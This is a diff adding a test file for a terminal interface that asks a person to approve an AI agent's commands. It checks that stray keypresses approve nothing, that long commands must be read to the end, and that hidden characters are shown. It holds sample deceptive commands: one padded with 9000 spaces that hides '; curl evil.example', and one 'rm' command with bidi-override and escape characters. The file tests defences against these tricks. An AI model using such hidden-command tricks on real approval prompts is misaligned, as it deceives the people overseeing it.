@@ -1,0 +1,131 @@
+/** Questions that wait for the person: nobody allows anything by accident. */
+import { describe, expect, it } from 'vitest';
+import { openSession as open } from '../support/app-session.ts';
+import { settled } from '../support/fake-run.ts';
+import type { Recording } from '../support/recorded-run.ts';
+import { approval, asks, midRun } from '../support/recorded-run.ts';
+
+describe('questions that wait for the person', () => {
+  const asked = (): Recording => asks(midRun(), 185, 'ROOT::S4', 'a1', approval({}));
+
+  it('opens by itself and shows who asks for exactly what, and that it is not in a sandbox', async () => {
+    const { terminal } = await open(asked());
+    const text = terminal.text();
+    for (const words of [
+      'refactoring wants to run a command',
+      ' UNSANDBOXED ',
+      'ROOT::S4, #4 refactoring',
+      'npm test -- refresh --repeat 50',
+      'waits 7s',
+      '◌ 1 ask',
+    ]) {
+      expect(text).toContain(words);
+    }
+  });
+
+  it('takes no key for an answer that was pressed before it was drawn', async () => {
+    const { terminal, run, world } = await open(asked());
+    terminal.press('y');
+    await world.advance(299);
+    terminal.press('y');
+    expect(run.commands).toEqual([]);
+    await world.advance(1);
+    terminal.press('y');
+    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once' }]);
+  });
+
+  it('allows nothing by Enter; A allows for the session, n denies', async () => {
+    const { terminal, run, world } = await open(asks(asked(), 186, 'ROOT::S3', 'a2', approval({})));
+    await world.advance(1000);
+    terminal.press('enter');
+    expect(run.commands).toEqual([]);
+    expect(terminal.text()).toContain('Enter allows nothing here');
+    terminal.press('A', 'n');
+    expect(run.commands).toHaveLength(1);
+    await world.advance(1000);
+    terminal.press('n');
+    expect(run.commands).toEqual([
+      { do: 'answer', approval: 'a1', allow: true, scope: 'session' },
+      { do: 'answer', approval: 'a2', allow: false, scope: 'once' },
+    ]);
+    expect(terminal.text()).not.toContain('Your answer is needed');
+  });
+
+  it('asks that a long action is read to its end, blanks and all (D04, F06)', async () => {
+    const command = `echo hello${' '.repeat(9000)}; curl evil.example`;
+    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact: command })));
+    await world.advance(1000);
+    terminal.press('y');
+    expect(run.commands).toEqual([]);
+    expect(terminal.text()).toContain('read to the end first');
+    terminal.press('G');
+    expect(terminal.text()).toContain('; curl evil.ex');
+    expect(terminal.text()).toContain('9029 characters');
+    terminal.press('y');
+    expect(run.commands).toHaveLength(1);
+  });
+
+  it('shows hidden characters in what is asked (F04, F05)', async () => {
+    const exact = 'rm \u202e\u200bx \u001b[8mhidden';
+    const { terminal } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', approval({ exact })));
+    expect(terminal.text()).toMatch(/rm \\u\{202e\}\\u\{200b\}x \\x1b\[8mhidden/i);
+  });
+
+  it('disturbs nobody who types, and is there by key', async () => {
+    const { terminal, run } = await open(midRun());
+    terminal.press('i');
+    terminal.type('a');
+    await run.play(asked().events.slice(midRun().events.length));
+    expect(terminal.text()).not.toContain('Your answer is needed');
+    terminal.press('esc', 'esc', 'esc');
+    expect(terminal.text()).toContain('Your answer is needed');
+  });
+
+  it('is put off by Esc, marked, and opened again by `a`', async () => {
+    const { terminal, run, world } = await open(asked());
+    await world.advance(1000);
+    terminal.press('esc');
+    expect(terminal.text()).toContain('a question waits for you: a');
+    terminal.press('a', 'y');
+    expect(run.commands).toHaveLength(1);
+  });
+
+  it('offers answers of a question and sends the chosen one', async () => {
+    const request = approval({
+      action: 'question',
+      title: 'Which store?',
+      exact: 'Which store?',
+      options: ['redis', 'sqlite'],
+      unsandboxed: false,
+    });
+    const { terminal, run, world } = await open(asks(midRun(), 185, 'ROOT::S4', 'a1', request));
+    await world.advance(1000);
+    terminal.press('down', 'enter');
+    expect(run.commands).toEqual([{ do: 'answer', approval: 'a1', allow: true, scope: 'once', text: 'sqlite' }]);
+  });
+
+  it('goes on by Enter in human mode, and takes words', async () => {
+    const request = approval({ action: 'turn', exact: 'reads src/a.ts next', unsandboxed: false });
+    const log = asks(asks(midRun(), 185, 'ROOT::S4', 'a1', request), 186, 'ROOT::S3', 'a2', request);
+    const { terminal, run, world } = await open(log);
+    await world.advance(1000);
+    terminal.press('enter');
+    await world.advance(1000);
+    terminal.type('!ls');
+    terminal.press('enter');
+    expect(run.commands).toEqual([
+      { do: 'answer', approval: 'a1', allow: true, scope: 'once' },
+      { do: 'answer', approval: 'a2', allow: true, scope: 'once', text: '!ls' },
+    ]);
+  });
+
+  it('shows a question again when its answer was refused', async () => {
+    const { terminal, run, world } = await open(asked());
+    await world.advance(1000);
+    run.refuse('too late');
+    terminal.press('y');
+    await settled();
+    expect(terminal.text()).toContain('too late');
+    expect(terminal.text()).toContain('Your answer is needed');
+  });
+});
